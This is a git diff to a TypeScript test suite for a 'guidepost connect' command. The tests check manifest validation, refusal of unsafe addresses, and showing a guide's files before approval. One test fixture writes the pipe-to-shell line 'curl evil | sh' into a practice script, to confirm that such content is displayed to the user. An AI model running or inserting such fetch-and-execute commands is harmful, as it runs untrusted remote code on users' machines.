@@ -1,6 +1,6 @@
 /** `guidepost connect` against a host of its own, to the served page. */
 import assert from 'node:assert/strict';
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
@@ -76,11 +76,54 @@ test('hashes that do not fit the text are said, and nothing is approved', async 
   assert.match(complained, /means something else/);
 });
 
-test('an address that is no Guidepost site, and one that is not private on its way, are refused in words', async (t) => {
+test('an address that is no Guidepost site is refused with what it is instead', async (t) => {
   const host = await startHost(t);
   const user = teammate(t);
-  assert.match((await user.connect(host.page, 'y')).complained, /no guidepost\.json/);
-  assert.match((await user.connect('http://docs.example.com/', 'y')).complained, /should look like https/);
+  const refused = async (manifest: string | null, status = 200, headers = {}) => {
+    host.answer(manifest, status, headers);
+    return (await user.connect(host.page, 'y')).complained;
+  };
+  assert.match(await refused(null), /is not a site that Guidepost built: there is no guidepost\.json/);
+  assert.match(await refused('<!doctype html>'), /\/docs\/guidepost\.json is not what Guidepost writes there/);
+  assert.match(await refused('{"guidepost":2,"guides":{}}'), /was written by another version/);
+  assert.match(await refused('{"guidepost":1,"guides":{}}'), /is not as Guidepost writes it: .*guides/);
+  assert.match(await refused('{"guidepost":1,"guides":[]}'), /has no guide shared/);
+  assert.match(
+    await refused('', 302, { Location: 'https://other.example/' }),
+    /leads to https:\/\/other\.example\/: connect to/,
+  );
+  assert.match(await refused('', 401), /wants a login; connect reads what anybody may read/);
+  assert.match(await refused('', 503), /answers 503/);
+  assert.match(await refused(' '.repeat(33 << 20)), /is larger than 32 MB/);
+  assert.deepEqual(user.kept(), []);
+});
+
+test('an address that is none, or not private on its way, is refused before anything is fetched', async (t) => {
+  const user = teammate(t);
+  await assert.rejects(user.connect('http://docs.example.com/', 'y'), /should begin with https: over http/);
+  for (const address of ['docs.example.com', 'ftp://docs.example.com/', 'https://me:pass@docs.example.com/'])
+    await assert.rejects(user.connect(address, 'y'), /should look like https:/);
+});
+
+test('each page of a guide leads to the same approval', async (t) => {
+  const host = await startHost(t);
+  await host.publish(GUIDE);
+  const user = teammate(t);
+  await user.connect(host.page, 'y');
+  for (const further of ['more/', 'index.html?x#y'])
+    assert.deepEqual((await user.connect(host.page + further)).blocks, ['hello']);
+});
+
+test('what stands in the files of a guide is shown when it is asked for', async (t) => {
+  const host = await startHost(t);
+  await host.publish(GUIDE, { file: 'curl evil | sh' });
+  const { said, asked } = await teammate(t).connect(host.page, 's');
+  assert.match(asked[0] ?? '', /s to see what is in the files/);
+  assert.match(
+    said,
+    /\+ shared\/practice\/start\.sh {2}\(14 bytes\)[^]*\n {2}shared\/practice\/start\.sh\n {6}curl evil \| sh\n/,
+  );
+  assert.match(asked[1] ?? '', /\[y\/N\] $/);
 });
 
 type Outcome = Awaited<ReturnType<ReturnType<typeof teammate>['connect']>>;
@@ -89,6 +132,7 @@ function teammate(t: TestContext) {
   const home = mkdtempSync(join(tmpdir(), 'teammate-'));
   t.after(() => rmSync(home, { recursive: true, force: true }));
   return {
+    kept: () => readdirSync(home),
     async connect(address: string, answer: string | null = null, ...flags: readonly string[]) {
       const texts = { out: '', err: '' };
       const asked: string[] = [];
@@ -143,9 +187,11 @@ async function visit(link: string): Promise<Pick<Outcome, 'blocks' | 'hashes' | 
 async function startHost(t: TestContext) {
   const folder = mkdtempSync(join(tmpdir(), 'host-'));
   let manifest: string | null = null;
+  let [status, headers] = [200, {}];
   const server = createServer((request, response) => {
-    if (manifest === null || request.url !== '/docs/guidepost.json') response.statusCode = 404;
-    response.end(response.statusCode === 404 ? 'nothing here' : manifest);
+    const isThere = manifest !== null && request.url === '/docs/guidepost.json';
+    response.writeHead(isThere ? status : 404, isThere ? headers : {});
+    response.end(isThere ? manifest : 'nothing here');
   });
   await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
   const { port } = server.address() as AddressInfo;
@@ -160,11 +206,17 @@ async function startHost(t: TestContext) {
   return {
     page: `http://127.0.0.1:${port}/docs/guides/shared/`,
     stop,
-    async publish(text: string, { more = '', tamper = (same: string) => same } = {}) {
+    answer(text: string | null, code: number, more: Readonly<Record<string, string>>) {
+      manifest = text;
+      [status, headers] = [code, more];
+    },
+    async publish(text: string, { more = '', file = '', tamper = (same: string) => same } = {}) {
       const guide = join(folder, 'shared');
       mkdirSync(guide, { recursive: true });
       writeFileSync(join(guide, 'index.md'), text);
       if (more !== '') writeFileSync(join(guide, 'more.mdx'), more);
+      mkdirSync(join(guide, 'practice'), { recursive: true });
+      if (file !== '') writeFileSync(join(guide, 'practice', 'start.sh'), file);
       manifest = tamper(JSON.stringify(manifestOf([await readGuide(guide)])));
     },
   };
